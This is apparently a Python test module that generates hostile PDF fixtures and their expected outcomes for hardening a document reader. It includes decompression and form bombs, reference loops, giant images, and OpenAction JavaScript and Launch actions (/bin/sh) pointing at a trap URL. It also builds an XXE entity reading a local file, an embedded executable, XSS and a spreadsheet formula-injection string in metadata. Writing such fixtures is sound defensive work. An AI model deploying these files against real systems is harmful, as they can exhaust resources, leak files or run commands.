"""PDF: loops, bombs, giants, scripts, locks and wreckage."""

from __future__ import annotations

import io
import zlib

import pikepdf

from tests.hostile.kinds import READY, Trap, kind, partial, unreadable, zipped

SAYS = "Energy saving report 2008"
DAMAGED = unreadable("damaged")
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SHOWN = b"BT /F1 12 Tf 72 700 Td (" + SAYS.encode() + b") Tj ET"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<" + entries + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def document(objects: dict[int, bytes], root: bytes = b"1 0 R", trailer: bytes = b"") -> bytes:
    """Objects by number, with a right table of places."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start, top = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % top
    for number in range(1, top):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    out += b"trailer\n<</Size %d/Root %s%s>>\nstartxref\n%d\n%%%%EOF\n" % (top, root, trailer, start)
    return bytes(out)


def page(
    content: bytes | None = None,
    *,
    box: bytes = b"[0 0 595 842]",
    resources: bytes = b"",
    catalog: bytes = b"",
    page_entries: bytes = b"",
    more: dict[int, bytes] | None = None,
    entries: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """One page that says SAYS unless told otherwise."""
    data = SHOWN if content is None else content
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox"
        + box
        + b"/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>"
        + resources
        + b">>"
        + page_entries
        + b">>",
        4: stream(data, entries),
        5: FONT,
    }
    return document(objects | (more or {}), trailer=trailer)


# -- loops ----------------------------------------------------------------------------------------
@kind("tree-loop.pdf", DAMAGED)
def pdf_page_tree_loop(_: Trap) -> bytes:
    return document({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})


@kind("tree-loop2.pdf", READY, says=SAYS)
def pdf_page_tree_loop_beside_a_page(_: Trap) -> bytes:
    return page(more={2: b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 1>>"})


@kind("count.pdf", READY, says=SAYS)
def pdf_page_count_lies(_: Trap) -> bytes:
    return page(more={2: b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"})


@kind("negative-count.pdf", READY, says=SAYS)
def pdf_page_count_negative(_: Trap) -> bytes:
    return page(more={2: b"<</Type/Pages/Kids[3 0 R]/Count -1>>"})


@kind("form-loop.pdf", unreadable("out_of_memory"), campaign=True)
def pdf_form_draws_itself(_: Trap) -> bytes:
    form = stream(
        b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    )
    return page(SHOWN + b" /X Do", resources=b"/XObject<</X 6 0 R>>", more={6: form})


@kind("form-bomb.pdf", unreadable("out_of_memory"), campaign=True)
def pdf_forms_that_multiply(_: Trap) -> bytes:
    """Ten forms deep, each drawing the next ten times."""
    forms = {
        6 + n: stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (7 + n),
        )
        for n in range(10)
    }
    forms[16] = stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return page(SHOWN + b" /X Do", resources=b"/XObject<</X 6 0 R>>", more=forms)


@kind("previous.pdf", READY, says=SAYS)
def pdf_table_chain_loop(_: Trap) -> bytes:
    data = page()
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


@kind("outline.pdf", READY, says=SAYS)
def pdf_outline_loop(_: Trap) -> bytes:
    item = b"<</Title(a)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 7 0 R>>"
    return page(catalog=b"/Outlines 6 0 R", more={6: b"<</First 7 0 R/Last 7 0 R/Count 9>>", 7: item})


@kind("length-loop.pdf", READY, says=SAYS)
def pdf_length_refers_to_itself(_: Trap) -> bytes:
    content = b"<</Length 4 0 R>>\nstream\n" + SHOWN + b"\nendstream"
    return page(more={4: content})


@kind("objects.pdf", READY)
def pdf_object_stream_holds_itself(_: Trap) -> bytes:
    body = zlib.compress(b"6 0 <</Type/Catalog>>")
    return page(
        catalog=b"",
        more={2: b"6 0 R", 6: stream(body, b"/Type/ObjStm/N 1/First 4/Extends 6 0 R/Filter/FlateDecode")},
    )


@kind("font-loop.pdf", READY)
def pdf_type3_font_draws_itself(_: Trap) -> bytes:
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
        b"/Encoding<</Differences[65/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    return page(b"BT /F1 12 Tf (AAAA) Tj ET", more={5: font, 6: stream(b"9 0 d0 BT /F1 1 Tf (AA) Tj ET")})


# -- bombs and giants -----------------------------------------------------------------------------
@kind("stream-bomb.pdf", unreadable("out_of_memory"), campaign=True)
def pdf_stream_bomb(_: Trap) -> bytes:
    return page(zlib.compress(b" " * 1_500_000_000, 9), entries=b"/Filter/FlateDecode")


@kind("filters.pdf", READY)
def pdf_filters_upon_filters(_: Trap) -> bytes:
    data = b" " * 20_000_000
    for _n in range(4):
        data = zlib.compress(data, 9)
    return page(data, entries=b"/Filter[" + b"/FlateDecode" * 4 + b"]")


@kind("filter-wall.pdf", READY)
def pdf_ten_thousand_filters(_: Trap) -> bytes:
    return page(b"x>", entries=b"/Filter[" + b"/ASCIIHexDecode" * 10_000 + b"]")


@kind("giant.pdf", DAMAGED)
def pdf_page_of_a_billion_points(_: Trap) -> bytes:
    return page(box=b"[0 0 1000000000 1000000000]")


@kind("dwarf.pdf", READY)
def pdf_page_without_size(_: Trap) -> bytes:
    return page(box=b"[0 0 0 0]")


@kind("odd-box.pdf", READY, says=SAYS)
def pdf_box_of_nonsense(_: Trap) -> bytes:
    return page(box=b"[842 (a) -1e99 null]")


@kind("unit.pdf", READY, says=SAYS)
def pdf_user_unit_of_a_million(_: Trap) -> bytes:
    return page(page_entries=b"/UserUnit 1000000/Rotate 37")


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (6 + n) for n in range(count))
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[" + kids + b"]/Count %d>>" % count,
        4: stream(SHOWN),
        5: FONT,
    }
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    return document(objects | {6 + n: one for n in range(count)})


@kind("hundreds.pdf", READY, says=SAYS)
def pdf_hundreds_of_pages(_: Trap) -> bytes:
    return _pages(400)


@kind("thousands.pdf", partial("too_many_pages"), says=SAYS, campaign=True)
def pdf_ten_thousand_pages(_: Trap) -> bytes:
    return _pages(10_000)


@kind("arrays.pdf", READY)
def pdf_nested_arrays(_: Trap) -> bytes:
    return page(page_entries=b"/A " + b"[" * 100_000 + b"]" * 100_000)


@kind("operators.pdf", READY, says=SAYS)
def pdf_hundred_thousand_operators(_: Trap) -> bytes:
    return page(SHOWN + b" q 1 0 0 1 0 0 cm 0 0 m 9 9 l S Q" * 30_000)


@kind("saves.pdf", READY, says=SAYS)
def pdf_saves_without_end(_: Trap) -> bytes:
    return page(SHOWN + b" q" * 300_000)


@kind("letters.pdf", READY)
def pdf_thousands_of_letters_on_one_spot(_: Trap) -> bytes:
    return page(b"BT /F1 12 Tf 72 700 Td 0 Tc " + b"(a) Tj -6 0 Td " * 3_000 + b"ET")


@kind("more-letters.pdf", READY, campaign=True)
def pdf_forty_thousand_letters_on_one_spot(_: Trap) -> bytes:
    return page(b"BT /F1 12 Tf 72 700 Td 0 Tc " + b"(a) Tj -6 0 Td " * 40_000 + b"ET")


@kind("font-size.pdf", READY)
def pdf_font_of_giants(_: Trap) -> bytes:
    return page(b"BT /F1 1e30 Tf 1e30 0 0 1e30 1e30 1e30 Tm (giant) Tj ET")


def image(entries: bytes, data: bytes) -> bytes:
    picture = stream(data, b"/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceGray" + entries)
    return page(
        SHOWN + b" q 400 0 0 400 72 72 cm /I Do Q", resources=b"/XObject<</I 6 0 R>>", more={6: picture}
    )


@kind("image-bomb.pdf", READY, says=SAYS)
def pdf_giant_image(_: Trap) -> bytes:
    return image(b"/Width 60000/Height 60000/Filter/FlateDecode", zlib.compress(b"\0" * 100_000))


@kind("jbig2.pdf", READY, says=SAYS)
def pdf_broken_jbig2(_: Trap) -> bytes:
    return image(b"/Width 3000/Height 3000/Filter/JBIG2Decode", bytes(range(256)) * 40)


@kind("jpx.pdf", READY, says=SAYS)
def pdf_broken_jpx(_: Trap) -> bytes:
    return image(b"/Width 3000/Height 3000/Filter/JPXDecode", b"\xff\x4f\xff\x51" + bytes(range(256)) * 40)


@kind("dct.pdf", READY, says=SAYS)
def pdf_broken_jpeg(_: Trap) -> bytes:
    return image(b"/Width 3000/Height 3000/Filter/DCTDecode", b"\xff\xd8\xff" + bytes(range(256)) * 40)


@kind("ccitt.pdf", READY, says=SAYS)
def pdf_giant_fax(_: Trap) -> bytes:
    more = b"/Width 60000/Height 60000/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2000000000/Rows 2000000000>>"
    return image(more, bytes(range(256)) * 40)


@kind("predictor.pdf", READY)
def pdf_predictor_overflow(_: Trap) -> bytes:
    entries = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 2147483647/BitsPerComponent 32>>"
    return page(zlib.compress(SHOWN), entries=entries)


# -- doors ----------------------------------------------------------------------------------------
@kind("script.pdf", READY, says=SAYS)
def pdf_javascript(trap: Trap) -> bytes:
    script = b"app.launchURL('" + trap.url.encode() + b"');this.submitForm('" + trap.url.encode() + b"')"
    return page(
        catalog=b"/OpenAction<</S/JavaScript/JS("
        + script.replace(b"(", b"\\(").replace(b")", b"\\)")
        + b")>>"
    )


@kind("launch.pdf", READY, says=SAYS)
def pdf_launch_and_links(trap: Trap) -> bytes:
    url = trap.url.encode()
    actions = (
        b"[<</S/Launch/F(/bin/sh)>><</S/URI/URI(" + url + b")>><</S/GoToR/F(" + trap.file.encode() + b")>>]"
    )
    return page(catalog=b"/OpenAction<</S/ImportData/F(" + trap.file.encode() + b")/Next" + actions + b">>")


@kind("xfa.pdf", READY, says=SAYS)
def pdf_xfa_with_entity(trap: Trap) -> bytes:
    form = (
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "'
        + trap.file_url.encode()
        + b'">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    )
    return page(catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>", more={6: stream(form)})


@kind("outside.pdf", READY)
def pdf_content_in_another_file(trap: Trap) -> bytes:
    return page(b"", entries=b"/F(" + trap.file.encode() + b")/FFilter/ASCIIHexDecode")


@kind("remote.pdf", READY, says=SAYS)
def pdf_image_in_another_file(trap: Trap) -> bytes:
    return image(b"/Width 9/Height 9/F<</FS/URL/F(" + trap.url.encode() + b")>>", b"")


@kind("attached.pdf", READY, says=SAYS)
def pdf_with_attachment(_: Trap) -> bytes:
    names = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 6 0 R>>>>]>>>>"
    return page(catalog=names, more={6: stream(b"MZ", b"/Type/EmbeddedFile")})


def _locked(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(page())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user))
    return out.getvalue()


@kind("locked.pdf", unreadable("password_protected"))
def pdf_encrypted(_: Trap) -> bytes:
    return _locked("user-secret")


@kind("owner-locked.pdf", READY, says=SAYS)
def pdf_encrypted_for_the_owner_only(_: Trap) -> bytes:
    return _locked("")


@kind("unknown-lock.pdf", unreadable("password_protected"))
def pdf_unknown_lock(_: Trap) -> bytes:
    return page(trailer=b"/Encrypt<</Filter/Strange/V 99/R 99>>/ID[(a)(b)]")


# -- wreckage -------------------------------------------------------------------------------------
@kind("cut.pdf", READY, says=SAYS)
def pdf_truncated_before_its_table(_: Trap) -> bytes:
    data = page()
    return data[: data.rindex(b"xref\n0")]


@kind("half.pdf", DAMAGED)
def pdf_cut_in_its_first_object(_: Trap) -> bytes:
    return page()[:40]


@kind("xref.pdf", READY, says=SAYS)
def pdf_garbage_table(_: Trap) -> bytes:
    data = page()
    start = data.rindex(b"xref\n0")
    return data[:start] + b"xref\n" + b"\xff" * 99 + data[data.rindex(b"trailer") :]


@kind("start.pdf", READY, says=SAYS)
def pdf_table_place_negative(_: Trap) -> bytes:
    data = page()
    return data[: data.rindex(b"startxref")] + b"startxref\n-99999999999999\n%%EOF"


@kind("mark-only.pdf", DAMAGED)
def pdf_mark_only(_: Trap) -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


@kind("no-pages.pdf", DAMAGED)
def pdf_without_pages(_: Trap) -> bytes:
    return document({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"})


@kind("no-root.pdf", DAMAGED)
def pdf_without_root(_: Trap) -> bytes:
    return document({1: b"<</A 1>>"}, root=b"99 0 R")


@kind("noise.pdf", DAMAGED)
def pdf_of_noise(_: Trap) -> bytes:
    return b"%PDF-1.4\n" + bytes((n * 7919 + n // 3) % 256 for n in range(20_000))


@kind("blank.pdf", READY)
def pdf_blank_page(_: Trap) -> bytes:
    return page(b"")


@kind("late.pdf", READY, says=SAYS)
def pdf_behind_junk(_: Trap) -> bytes:
    return b"junk \xff" * 100 + page()


@kind("zip.pdf", READY, says=SAYS)
def pdf_that_is_also_a_zip(_: Trap) -> bytes:
    return page() + zipped({"evil.txt": b"never unfolded"})


@kind("page.pdf", READY, says=SAYS)
def pdf_that_is_also_a_web_page(_: Trap) -> bytes:
    return b"<html><!-- " + page() + b" --><script>alert(1)</script></html>"


@kind("scan.jpg", READY, says=SAYS, note="renamed")
def pdf_named_jpeg(_: Trap) -> bytes:
    return page(page_entries=b"/Renamed true")


@kind("title.pdf", READY, says=SAYS)
def pdf_script_as_title(_: Trap) -> bytes:
    return page(
        more={6: b"<</Title(<script>alert\\(1\\)</script>)/Author(=cmd|'/C calc'!A0)>>"},
        trailer=b"/Info 6 0 R",
    )
